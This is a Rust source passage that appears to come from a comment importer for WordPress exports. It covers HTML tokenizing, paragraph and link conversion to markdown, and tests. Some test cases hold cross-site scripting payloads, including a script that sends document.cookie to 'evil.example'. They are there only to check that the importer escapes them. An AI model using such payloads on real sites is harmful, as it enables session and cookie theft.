    let mut text_start = 0;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'<' {
            i += 1;
            continue;
        }
        let tag_start = i;
        let next = bytes.get(i + 1).copied().unwrap_or(b' ');
        let is_comment = html[i..].starts_with("<!--");
        let end = if is_comment {
            html[i + 4..].find("-->").map(|e| i + 4 + e + 3)
        } else if next.is_ascii_alphabetic() || matches!(next, b'/' | b'!' | b'?') {
            tag_end(bytes, i)
        } else {
            None
        };
        let Some(end) = end else {
            i += 1;
            continue;
        };
        if text_start < tag_start {
            tokens.push(Token::Text(&html[text_start..tag_start]));
        }
        let raw = &html[tag_start..end];
        let closing = next == b'/';
        let name = raw[if closing { 2 } else { 1 }..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | ':'))
            .collect::<String>()
            .to_ascii_lowercase();
        i = end;
        if is_comment {
            tokens.push(Token::Verbatim {
                raw,
                name: String::new(),
            });
        } else if !closing && VERBATIM.contains(&name.as_str()) {
            // The content and the end tag too (or everything, if it never ends).
            let close = format!("</{name}");
            i = html[end..]
                .to_ascii_lowercase()
                .find(&close)
                .map_or(html.len(), |at| {
                    tag_end(bytes, end + at).unwrap_or(html.len())
                });
            tokens.push(Token::Verbatim {
                raw: &html[tag_start..i],
                name,
            });
        } else {
            tokens.push(Token::Tag { raw, name, closing });
        }
        text_start = i;
    }
    if text_start < bytes.len() {
        tokens.push(Token::Text(&html[text_start..]));
    }
    tokens
}

/// Where the tag starting at `start` ends (after its `>`), quoted attribute values
/// skipped; `None` if another `<` comes first or nothing closes it.
fn tag_end(bytes: &[u8], start: usize) -> Option<usize> {
    let mut quote = None;
    for (offset, &b) in bytes[start + 1..].iter().enumerate() {
        match (quote, b) {
            (Some(q), b) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'"' | b'\'') => quote = Some(b),
            (None, b'>') => return Some(start + 1 + offset + 1),
            (None, b'<') => return None,
            _ => {}
        }
    }
    None
}

/// What WordPress does to a stored comment when it shows it (`wpautop`, `make_clickable`),
/// so the HTML says what the reader saw: text separated by a blank line becomes
/// paragraphs, a single newline a `<br>`, a bare `http(s)://` URL a link. Newlines next to
/// block tags and inside `<pre>` are left alone.
fn autop(html: &str) -> String {
    let html = html.replace("\r\n", "\n").replace('\r', "\n");
    let mut autop = Autop {
        out: String::with_capacity(html.len() + 32),
        ..Autop::default()
    };
    for token in tokens(&html) {
        match token {
            Token::Text(text) => autop.text(text),
            Token::Tag { raw, name, closing } => autop.tag(raw, name, closing),
            Token::Verbatim { raw, name } if name == "pre" => autop.block(raw),
            Token::Verbatim { raw, .. } => autop.inline(raw),
        }
    }
    autop.end_paragraph();
    autop.out
}

#[derive(Default)]
struct Autop {
    out: String,
    /// The paragraph being gathered.
    paragraph: String,
    /// Open blocks, innermost last.
    blocks: Vec<String>,
    in_link: usize,
    in_code: usize,
    /// Newlines seen but not yet written: what they become depends on what follows.
    pending_newlines: usize,
    /// The last thing written was a `<br>`.
    after_break: bool,
}

impl Autop {
    fn holds_paragraphs(&self) -> bool {
        self.blocks
            .last()
            .is_none_or(|block| HOLDS_PARAGRAPHS.contains(&block.as_str()))
    }

    fn end_paragraph(&mut self) {
        let content = self.paragraph.trim();
        if !content.is_empty() {
            if self.holds_paragraphs() {
                self.out.push_str("<p>");
                self.out.push_str(content);
                self.out.push_str("</p>\n");
            } else {
                self.out.push_str(content);
            }
        }
        self.paragraph.clear();
    }

    /// Something inline follows: the pending newlines become a paragraph or a break.
    fn resolve_newlines(&mut self) {
        let newlines = std::mem::take(&mut self.pending_newlines);
        if newlines == 0 || self.paragraph.trim().is_empty() {
            return;
        }
        if newlines >= 2 && self.holds_paragraphs() {
            self.end_paragraph();
        } else if !self.after_break {
            self.paragraph.push_str("<br>");
        }
        self.after_break = false;
    }

    fn inline(&mut self, raw: &str) {
        self.resolve_newlines();
        self.paragraph.push_str(raw);
        self.after_break = false;
    }

    fn block(&mut self, raw: &str) {
        self.pending_newlines = 0;
        self.after_break = false;
        self.end_paragraph();
        self.out.push_str(raw);
        self.out.push('\n');
    }

    fn tag(&mut self, raw: &str, name: String, closing: bool) {
        if BLOCKS.contains(&name.as_str()) {
            self.block(raw);
            if closing {
                if let Some(at) = self.blocks.iter().rposition(|block| *block == name) {
                    self.blocks.truncate(at);
                }
            } else if !matches!(name.as_str(), "hr" | "col" | "area") && !raw.ends_with("/>") {
                self.blocks.push(name);
            }
            return;
        }
        self.inline(raw);
        match (name.as_str(), closing) {
            ("a", false) => self.in_link += 1,
            ("a", true) => self.in_link = self.in_link.saturating_sub(1),
            ("code", false) => self.in_code += 1,
            ("code", true) => self.in_code = self.in_code.saturating_sub(1),
            _ => {}
        }
        self.after_break = name == "br";
    }

    fn text(&mut self, mut text: &str) {
        // Whitespace runs that hold a newline, and the words between them.
        while let Some(newline) = text.find('\n') {
            let run_start = text[..newline].trim_end_matches([' ', '\t']).len();
            let run_end = text.len() - text[newline..].trim_start_matches([' ', '\t', '\n']).len();
            self.words(&text[..run_start]);
            self.pending_newlines += text[run_start..run_end].matches('\n').count();
            text = &text[run_end..];
        }
        self.words(text);
    }

    fn words(&mut self, words: &str) {
        if words.is_empty() {
            return;
        }
        self.resolve_newlines();
        if self.in_link == 0 && self.in_code == 0 {
            linkify(words, &mut self.paragraph);
        } else {
            self.paragraph.push_str(words);
        }
        self.after_break = false;
    }
}

/// Appends HTML text with its bare `http://` and `https://` URLs made links, as
/// WordPress's `make_clickable` shows them. Trailing punctuation stays outside the link.
fn linkify(text: &str, out: &mut String) {
    let mut rest = text;
    while let Some(at) = find_url_start(rest) {
        out.push_str(&rest[..at]);
        let candidate = &rest[at..];
        let mut end = candidate
            .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\''))
            .unwrap_or(candidate.len());
        while let Some(last) = candidate[..end].chars().next_back() {
            let url = &candidate[..end];
            let unbalanced = last == ')' && url.matches('(').count() < url.matches(')').count();
            if matches!(last, '.' | ',' | ';' | ':' | '!' | '?') || unbalanced {
                end -= last.len_utf8();
            } else {
                break;
            }
        }
        let url = &candidate[..end];
        if url.len() <= "https://".len() {
            out.push_str(url);
        } else {
            out.push_str("<a href=\"");
            out.push_str(url);
            out.push_str("\">");
            out.push_str(url);
            out.push_str("</a>");
        }
        rest = &candidate[end..];
    }
    out.push_str(rest);
}

/// Where a bare URL starts: `http://` or `https://` at the start or after a space or an
/// opening bracket.
fn find_url_start(text: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(found) = text[from..].find("http") {
        let at = from + found;
        let rest = &text[at..];
        let starts_a_word = text[..at]
            .chars()
            .next_back()
            .is_none_or(|c| c.is_whitespace() || matches!(c, '(' | '['));
        if starts_a_word && (rest.starts_with("http://") || rest.starts_with("https://")) {
            return Some(at);
        }
        from = at + 4;
    }
    None
}

#[cfg(test)]
mod tests {
    use std::cell::Cell;
    use std::io::{BufReader, Read};
    use std::rc::Rc;

    use colloquy_core::markdown::{parse_comment, Node};

    use super::*;
    use crate::import::samples::{self, example_posts, wordpress_wxr, ChunkReader};

    fn all(xml: &str, key_from: KeyFrom) -> Vec<Result<Record, InputError>> {
        read(xml.as_bytes(), key_from).collect()
    }

    fn comments(records: &[Result<Record, InputError>]) -> Vec<ImportedComment> {
        records
            .iter()
            .filter_map(|r| match r {
                Ok(Record::Comment(c)) => Some(c.clone()),
                _ => None,
            })
            .collect()
    }

    const HELLO: &str = "/2024/03/01/hello-world/";
    /// 2024-03-01T12:00:00Z, as the samples count.
    const BASE: i64 = 1_709_294_400_000;

    fn at(minutes: i64) -> i64 {
        BASE + minutes * 60_000
    }

    #[test]
    fn the_example_export_gives_every_field() {
        let records = all(&wordpress_wxr(&example_posts()), KeyFrom::Link);
        assert!(records.iter().all(Result::is_ok), "{records:?}");
        let threads: Vec<&Record> = records
            .iter()
            .flatten()
            .filter(|r| matches!(r, Record::Thread { .. }))
            .collect();
        // The attachment has no comments and is no post: no thread.
        assert_eq!(
            threads,
            [
                &Record::Thread {
                    key: HELLO.into(),
                    title: Some("Hello world!".into())
                },
                &Record::Thread {
                    key: "/about/".into(),
                    title: Some("About".into())
                },
                &Record::Thread {
                    key: "/?p=12".into(),
                    title: Some("Plain permalinks & more".into())
                },
            ]
        );
        // Each thread comes before its comments.
        let first_comment = records
            .iter()
            .position(|r| matches!(r, Ok(Record::Comment(_))))
            .unwrap();
        assert_eq!(first_comment, 1);

        let expected = |thread: &str,
                        id: &str,
                        parent: Option<&str>,
                        author: &str,
                        email: Option<&str>,
                        website: Option<&str>,
                        body: &str,
                        minutes: i64,
                        status: SourceStatus| ImportedComment {
            thread: thread.into(),
            source_id: id.into(),
            parent_source_id: parent.map(Into::into),
            author: author.into(),
            email: email.map(Into::into),
            website: website.map(Into::into),
            body: body.into(),
            created_at_ms: at(minutes),
            status,
        };
        use SourceStatus::*;
        assert_eq!(
            comments(&records),
            vec![
                expected(
                    HELLO,
                    "1",
                    None,
                    "A WordPress Commenter",
                    Some("wapuu@wordpress.example"),
                    Some("https://wordpress.org/"),
                    "Hi, this is a comment.  \nTo get started with moderating, editing, and deleting comments, please visit the Comments screen in the dashboard.  \nCommenter avatars come from [Gravatar](https://en.gravatar.com/).",
                    7,
                    Approved
                ),
                expected(
                    HELLO,
                    "2",
                    Some("1"),
                    "Zoë Ångström",
                    Some("zoe@example.org"),
                    None,
                    "Thanks! I\u{2019}m glad it works & looks fine\u{2026}\n\nA second paragraph :)",
                    14,
                    Approved
                ),
                expected(
                    HELLO,
                    "3",
                    Some("2"),
                    "José Müller",
                    Some("jose@example.net"),
                    Some("https://jose.example.net"),
                    "See [the *docs*](https://example.com/docs?a=1&b=2) for more.",
                    21,
                    Approved
                ),
                expected(
                    HELLO,
                    "4",
                    None,
                    "Pending Pat",
                    Some("pat@example.org"),
                    None,
                    "Waiting for a moderator.",
                    28,
                    Pending
                ),
                expected(
                    HELLO,
                    "5",
                    None,
                    "Cheap Pills",
                    Some("pills@spam.example"),
                    Some("https://spam.example/pills"),
                    "Buy [cheap pills](https://spam.example/pills)!!!",
                    35,
                    Spam
                ),
                // 6 is a pingback: skipped.
                expected(
                    HELLO,
                    "7",
                    None,
                    "Mallory",
                    Some("mallory@example.com"),
                    None,
                    "Nice post \\<script>alert(\"gotcha\")\\</script> really.",
                    49,
                    Approved
                ),
                expected(
                    HELLO,
                    "8",
                    None,
                    "Trash Talker",
                    None,
                    None,
                    "Something regrettable.",
                    56,
                    Deleted
                ),
                // It answered the pingback: now it answers the post.
                expected(
                    HELLO,
                    "9",
                    None,
                    "山田太郎",
                    None,
                    None,
                    "日本語のコメントです。  \n二行目。",
                    63,
                    Approved
                ),
                // Its GMT date is zero: the local date stands in.
                expected(
                    HELLO,
                    "10",
                    Some("3"),
                    "Old Timer",
                    None,
                    None,
                    "Replying \\*way\\* back\\_then.",
                    70,
                    Approved
                ),
                expected(
                    "/?p=12",
                    "20",
                    None,
                    "Linus",
                    None,
                    None,
                    "Look: [https://example.com/photo.jpg](https://example.com/photo.jpg), and [A cat](https://example.com/cat.png)",
                    140,
                    Approved
                ),
                expected(
                    "/?p=12",
                    "21",
                    Some("20"),
                    "Quoter",
                    None,
                    None,
                    "> Quoted text  \n> line two\n\nMy answer.",
                    147,
                    Approved
                ),
            ]
        );
    }

    #[test]
    fn replies_nest_three_deep() {
        let comments = comments(&all(&wordpress_wxr(&example_posts()), KeyFrom::Link));
        let parent = |id: &str| {
            comments
                .iter()
                .find(|c| c.source_id == id)
                .and_then(|c| c.parent_source_id.clone())
        };
        assert_eq!(parent("1"), None);
        assert_eq!(parent("2").as_deref(), Some("1"));
        assert_eq!(parent("3").as_deref(), Some("2"));
        assert_eq!(parent("10").as_deref(), Some("3"));
    }

    #[test]
    fn keys_can_come_from_the_guid() {
        let records = all(&wordpress_wxr(&example_posts()), KeyFrom::Guid);
        let keys: Vec<String> = records
            .iter()
            .flatten()
            .filter_map(|r| match r {
                Record::Thread { key, .. } => Some(key.clone()),
                _ => None,
            })
            .collect();
        assert_eq!(keys, ["/?p=1", "/?p=2", "/?p=12"]);
        assert!(comments(&records)
            .iter()
            .all(|c| c.thread == "/?p=1" || c.thread == "/?p=12"));
    }

    #[test]
    fn url_paths() {
        assert_eq!(
            url_path("https://example.org/a/b/?x=1#c", true).as_deref(),
            Some("/a/b/?x=1")
        );
        assert_eq!(
            url_path("https://example.org/a/b/?x=1#c", false).as_deref(),
            Some("/a/b/")
        );
        assert_eq!(url_path("https://example.org", true).as_deref(), Some("/"));
        assert_eq!(
            url_path("https://example.org?p=3", true).as_deref(),
            Some("/?p=3")
        );
        assert_eq!(url_path("//example.org/x", true).as_deref(), Some("/x"));
        assert_eq!(url_path("/relative/", true).as_deref(), Some("/relative/"));
        assert_eq!(url_path("  ", true), None);
    }

    #[test]
    fn dates() {
        assert_eq!(parse_mysql_datetime("1970-01-01 00:00:00"), Some(0));
        assert_eq!(parse_mysql_datetime("2024-03-01 12:00:00"), Some(BASE));
        assert_eq!(
            parse_mysql_datetime("2000-02-29 00:00:00"),
            Some(951_782_400_000)
        );
        assert_eq!(parse_mysql_datetime("2001-02-29 00:00:00"), None);
        assert_eq!(parse_mysql_datetime("2024-13-01 00:00:00"), None);
        assert_eq!(parse_mysql_datetime("2024-03-01T12:00:00"), None);
        assert_eq!(parse_mysql_datetime("0000-00-00 00:00:00"), None);
        assert_eq!(
            parse_iso8601("2013-05-14T10:12:01Z"),
            Some(1_368_526_321_000)
        );
        assert_eq!(
            parse_iso8601("2013-05-14T10:12:01.250Z"),
            Some(1_368_526_321_250)
        );
        assert_eq!(
            parse_iso8601("2013-05-14T12:12:01+02:00"),
            Some(1_368_526_321_000)
        );
        assert_eq!(parse_iso8601("2013-05-14"), None);
        for ms in [0, BASE, 4_107_542_400_000, 951_782_400_000] {
            let text = colloquy_core::time::format_rfc3339(ms);
            assert_eq!(parse_iso8601(&text), Some(ms), "{text}");
        }
    }

    #[test]
    fn html_becomes_markdown() {
        let cases = [
            // Entities decoded.
            ("Fish &amp; chips&hellip; it&#8217;s &lt;fine&gt;", "Fish & chips… it’s \\<fine>"),
            // Smilies and emoji are their alt text.
            (samples::SMILEY, ":)"),
            (
                "Yay <img draggable=\"false\" role=\"img\" class=\"emoji\" alt=\"🎉\" src=\"https://s.w.org/images/core/emoji/15.0.3/svg/1f389.svg\">",
                "Yay 🎉",
            ),
            // Other images: a link to the image, named by its alt text, or its address.
            ("<img src=\"https://example.com/a b.png\">", "[https://example.com/a b.png](https://example.com/a%20b.png)"),
            ("<img alt=\"no source\">", "no source"),
            // Links.
            (
                "<a href=\"https://example.com/x_(y)\" rel=\"nofollow ugc\" target=\"_blank\" title=\"t\">the _link_</a>",
                "[the \\_link\\_](https://example.com/x_\\(y\\))",
            ),
            ("<a href=\"https://example.com/\"></a>", "[https://example.com/](https://example.com/)"),
            ("<a name=\"anchor\">just text</a>", "just text"),
            ("see <a href=\"https://e.com/\">this </a>now", "see [this](https://e.com/) now"),
            // Bare URLs become links; punctuation stays out.
            ("Go to https://example.com/page.", "Go to [https://example.com/page](https://example.com/page)."),
            ("(https://example.com/a_(b))", "([https://example.com/a\\_(b)](https://example.com/a_\\(b\\)))"),
            ("<code>https://not.linked/</code>", "`https://not.linked/`"),
            // Newlines: a line break, a paragraph; CRLF too.
            ("one\ntwo\n\nthree", "one  \ntwo\n\nthree"),
            ("one\r\ntwo\r\n\r\n\r\nthree", "one  \ntwo\n\nthree"),
            ("one<br />\ntwo", "one  \ntwo"),
            ("<p>Already</p>\n<p>paragraphs</p>", "Already\n\nparagraphs"),
            // Blocks: quotes, lists, code.
            ("<blockquote>quoted</blockquote>\nreply", "> quoted\n\nreply"),
            ("<ul>\n<li>one</li>\n<li>two</li>\n</ul>", "- one\n- two"),
            ("<ol><li>one</li><li>two</li></ol>", "1. one\n2. two"),
            ("<pre>let x = 1;\n\nlet y = 2;</pre>", "```\nlet x = 1;\n\nlet y = 2;\n```"),
            ("a <code>x &lt; y</code> b", "a `x < y` b"),
            // Emphasis, strikethrough, other tags go.
            ("<strong>b</strong> <em>i</em> <b>b</b> <i>i</i>", "**b** *i* **b** *i*"),
            ("<del>old</del> <s>gone</s>", "~~old~~ ~~gone~~"),
            ("<span style=\"color:red\">red</span> <u>under</u> <font>f</font>", "red under f"),
            // Markup that is not HTML stays text.
            ("5 * 3 = 15 and 1 < 2, [x] #tag", "5 \\* 3 = 15 and 1 < 2, \\[x\\] #tag"),
            // What cannot be expressed is shown as text.
            ("<script src=\"https://evil.example/x.js\"></script>", "\\<script src=\"https://evil.example/x.js\">\\</script>"),
            ("<style>p { color: red }</style>after", "\\<style>p { color: red }\\</style>after"),
            ("<iframe src=\"https://www.youtube.com/embed/x\"></iframe>", "[https://www.youtube.com/embed/x](https://www.youtube.com/embed/x)"),
            ("<!-- hidden -->visible", "visible"),
            ("", ""),
        ];
        for (html, markdown) in cases {
            assert_eq!(comment_markdown(html), markdown, "from {html:?}");
        }
    }

    /// Every `<` in a body is escaped (or in code), so the markdown renderer shows it as
    /// text.
    fn unescaped_angle(body: &str) -> bool {
        let mut previous = ' ';
        let mut in_code = false;
        for c in body.chars() {
            if c == '`' {
                in_code = !in_code;
            }
            if c == '<' && previous != '\\' && !in_code {
                return true;
            }
            previous = c;
        }
        false
    }

    fn text_of(nodes: &[Node]) -> String {
        nodes
            .iter()
            .map(|node| match node {
                Node::Element { children, .. } => text_of(children),
                Node::Text(text) | Node::Code(text) => text.clone(),
                Node::LineBreak => "\n".into(),
                Node::Rule => String::new(),
            })
            .collect()
    }

    #[test]
    fn no_html_survives_and_scripts_are_text() {
        for comment in comments(&all(&wordpress_wxr(&example_posts()), KeyFrom::Link)) {
            assert!(
                !unescaped_angle(&comment.body),
                "{}: {}",
                comment.source_id,
                comment.body
            );
        }
        let body = comment_markdown(
            "Hi <script>document.location='https://evil.example/?c='+document.cookie</script>",
        );
        assert!(!unescaped_angle(&body), "{body}");
        let shown = text_of(&parse_comment(&body));
        assert_eq!(
            shown,
            "Hi <script>document.location='https://evil.example/?c='+document.cookie</script>"
        );
        // Markup a commenter wrote as text stays text.
        let body = comment_markdown("I typed &lt;b&gt;bold&lt;/b&gt; literally");
        assert_eq!(
            text_of(&parse_comment(&body)),
            "I typed <b>bold</b> literally"
        );
    }

    #[test]
    fn a_cut_file_names_where_it_stops() {
        let xml = wordpress_wxr(&example_posts());
        let inside_content = xml.find("I&#8217;m glad").unwrap();
        let inside_tag = xml.find("<wp:comment_approved>").unwrap() + 5;
        let after_comment = xml.find("</wp:comment>").unwrap() + "</wp:comment>".len();
        let inside_item_header = xml.find("<wp:post_name>").unwrap();
        for (cut, record) in [
            (inside_content, "comment 2"),
            (inside_tag, "comment 1"),
            (after_comment, "item 1"),
            (inside_item_header, "item 1"),
            (xml.len() - 10, "byte"),
            (xml.len() / 2, ""),
        ] {
            let records = all(&xml[..cut], KeyFrom::Link);
            let (last, before) = records.split_last().unwrap();
            assert!(before.iter().all(Result::is_ok), "cut at {cut}: {before:?}");
            let error = last.clone().expect_err("a cut file is an error");
            assert!(
                error.record.starts_with(record)
                    && (error.record.starts_with("comment ")
                        || error.record.starts_with("item ")
                        || error.record.starts_with("byte ")),
                "cut at {cut}: {error}"
            );
            assert!(error.reason.contains("byte "), "{error}");
        }
    }

    #[test]
    fn bad_input_is_an_error_that_ends_the_records() {
        let good = wordpress_wxr(&example_posts());
        let cases = [
            (
                good.replacen("<wp:comment_id>3</wp:comment_id>", "", 1),
                "item 1",
                "wp:comment_id",
            ),
            (
                good.replacen(
                    "<![CDATA[2024-03-01 12:21:00]]></wp:comment_date_gmt>",
                    "<![CDATA[yesterday]]></wp:comment_date_gmt>",
                    1,
                ),
                "comment 3",
                "yesterday",
            ),
            (
                good.replacen(
                    "<wp:comment_approved><![CDATA[1]]>",
                    "<wp:comment_approved><![CDATA[maybe]]>",
                    1,
                ),
                "comment 1",
                "maybe",
            ),
            (
                good.replacen("</wp:comment_author>", "</wp:comment_autor>", 1),
                "comment 1",
                "malformed XML",
            ),
            (
                good.replacen("Example &amp; Co", "Example &nbsp; Co", 1),
                "byte ",
                "&nbsp;",
            ),
            (
                samples::disqus_export(&example_posts()),
                "byte 0",
                "not a WordPress export",
            ),
            (String::new(), "byte 0", "empty"),
            (
                good.replacen(
                    "<link>https://example.org/about/</link>",
                    "<link></link>",
                    1,
                )
                .replacen(
                    "<guid isPermaLink=\"false\">https://example.org/?p=2</guid>",
                    "<guid></guid>",
                    1,
                ),
                "item 2",
                "<link>",
            ),
        ];
        for (xml, record, reason) in cases {
            let records = all(&xml, KeyFrom::Link);
            let errors: Vec<&InputError> =
                records.iter().filter_map(|r| r.as_ref().err()).collect();
            assert_eq!(errors.len(), 1, "{records:?}");
            assert!(
                records.last().unwrap().is_err(),
                "the error ends the records"
            );
            assert!(
                errors[0].record.starts_with(record) && errors[0].reason.contains(reason),
                "expected {record}: …{reason}…, got {}",
                errors[0]
            );
        }
    }

    /// Counts what the reader has pulled from its input.
    struct Counting<R> {
        inner: R,
        read: Rc<Cell<u64>>,
    }

    impl<R: Read> Read for Counting<R> {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            let n = self.inner.read(buf)?;
            self.read.set(self.read.get() + n as u64);
            Ok(n)
        }
    }

    #[test]
    fn a_hundred_thousand_comments_stream_through() {
        const COMMENTS: usize = 100_000;
        let read_so_far = Rc::new(Cell::new(0));
        let input = BufReader::new(Counting {
            inner: ChunkReader::new(samples::generated_wordpress(COMMENTS, 7)),
            read: read_so_far.clone(),
        });
        let (mut threads, mut comments, mut replies) = (0, 0, 0);
        for (n, record) in read(input, KeyFrom::Link).enumerate() {
            if n == 50 {
                // The first records come after a few kilobytes: nothing reads ahead.
                assert!(
                    read_so_far.get() < 64 * 1024,
                    "read {} bytes",
                    read_so_far.get()
                );
            }
            match record.unwrap() {
                Record::Thread { .. } => threads += 1,
                Record::Comment(comment) => {
                    comments += 1;
                    replies += usize::from(comment.parent_source_id.is_some());
                    assert!(!unescaped_angle(&comment.body), "{}", comment.body);
                }
                Record::Skipped(reason) => panic!("nothing is skipped here: {reason}"),
            }
        }
        assert_eq!(comments, COMMENTS);
        assert_eq!(
            threads,
            COMMENTS.div_ceil(samples::GENERATED_COMMENTS_PER_POST)
        );
        assert!(replies > COMMENTS / 5, "{replies} replies");
        // The whole file went through, tens of megabytes, never held at once.
        assert!(
            read_so_far.get() > 50_000_000,
            "{} bytes",
            read_so_far.get()
        );
    }
}
